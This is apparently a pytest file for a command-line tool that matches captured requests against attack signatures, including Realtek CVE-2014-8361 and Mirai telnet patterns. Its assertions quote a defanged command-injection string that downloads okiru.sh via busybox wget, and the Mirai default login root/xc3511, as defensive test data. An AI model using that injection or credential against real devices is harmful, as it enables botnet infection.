"""``teiten signatures list`` and ``teiten signatures test``, run through click's CliRunner."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from click.testing import CliRunner, Result

from teiten.classify import load_signatures
from teiten.cli.signatures import COMMANDS, signatures_group

SAMPLES = Path(__file__).resolve().parents[1] / "data" / "requests"


def run(*args: str) -> Result:
    return CliRunner().invoke(signatures_group, list(args), catch_exceptions=False)


def test_exports_the_group() -> None:
    assert [signatures_group] == COMMANDS and signatures_group.name == "signatures"


def test_list_in_every_format() -> None:
    ids = [s.id for s in load_signatures().signatures]
    table = run("list")
    assert table.exit_code == 0 and all(i in table.output for i in ids)
    rows = list(csv.DictReader(io.StringIO(run("list", "--format", "csv").output)))
    assert [r["id"] for r in rows] == ids
    realtek = next(r for r in rows if r["id"] == "sig.realtek-miniigd-soap-cve-2014-8361")
    assert realtek["cves"] == "CVE-2014-8361" and realtek["jvn"] == "JVNDB-2014-008039"
    data = json.loads(run("list", "--format", "json").output)
    assert [d["id"] for d in data] == ids and data[0]["source"] and data[0]["file"]


def test_explains_a_match() -> None:
    r = run("test", str(SAMPLES / "realtek-seed.http"))
    assert r.exit_code == 0, r.output
    assert "kind: exploit" in r.output
    assert "MATCH sig.realtek-miniigd-soap-cve-2014-8361 [exploit, high] CVE-2014-8361 " \
           "JVNDB-2014-008039" in r.output  # fmt: skip
    assert "ok  match: path ~ " in r.output and ": /picdesc.xml" in r.output
    assert "NewInternalClient=`cd /tmp/;/bin/busybox wget hxxp://198.51.100[.]23/" in r.output
    assert "hxxp://198.51.100[.]23/okiru.sh" in r.output
    assert "http://198.51.100.23" not in r.output  # indicators are defanged for people
    assert "near miss sig." not in r.output and "(2 near misses; --verbose" in r.output


def test_verbose_shows_near_misses() -> None:
    r = run("test", str(SAMPLES / "realtek-no-injection.http"), "--verbose")
    assert "MATCH sig.upnp-addportmapping-benign" in r.output
    section = r.output.split("near miss sig.realtek-miniigd-soap-cve-2014-8361", 1)[1]
    assert "  no  match: SOAP argument any ~ " in section.split("near miss", 1)[0]


def test_telnet_stream_and_logins() -> None:
    r = run("test", str(SAMPLES / "telnet-mirai.bin"), "--port", "23")
    assert "app: telnet" in r.output and "MATCH sig.mirai-telnet-busybox-token" in r.output
    assert "login: root / xc3511 outcome unknown; in Mirai's table: yes; commands: 5" in r.output


def test_attacker_text_is_escaped(tmp_path: Path) -> None:
    f = tmp_path / "evil.http"
    f.write_bytes(b"GET / HTTP/1.1\r\nUser-Agent: Hakai\x1b[2J\xe2\x80\xae\r\n\r\n")
    r = run("test", str(f))
    assert "MATCH sig.mirai-http-user-agent" in r.output
    assert "\x1b" not in r.output and "\u202e" not in r.output
    assert "Hakai\\x1b[2J\\u202e" in r.output


def test_big_file_is_read_bounded(tmp_path: Path) -> None:
    f = tmp_path / "big.http"
    f.write_bytes(b"GET /shell?x HTTP/1.1\r\n\r\n" + b"A" * 200_000)
    r = run("test", str(f))
    assert "MATCH sig.jaws-dvr-shell-rce" in r.output and "read the first 65536 bytes" in r.output


def test_errors_are_one_line(tmp_path: Path) -> None:
    missing = run("test", str(tmp_path / "nope.http"))
    assert missing.exit_code == 1 and "cannot read" in missing.output
    bad = tmp_path / "bad.toml"
    bad.write_text('[[signature]]\nid = "sig.bad-one"\ntitle = "t"\nkind = "exploit"\n'
                   'protocol = "http"\nseverity = "high"\nsource = "s"\n'
                   "[signature.match]\npath = '(('\n")  # fmt: skip
    r = run("list", "--rules", str(bad))
    assert r.exit_code == 1 and "bad.toml:9: signature 1: match.path: bad regular" in r.output
    ok = run("test", str(SAMPLES / "browser.http"), "--rules", str(SAMPLES.parent))
    assert ok.exit_code == 0 and "matched: 0 of" in ok.output
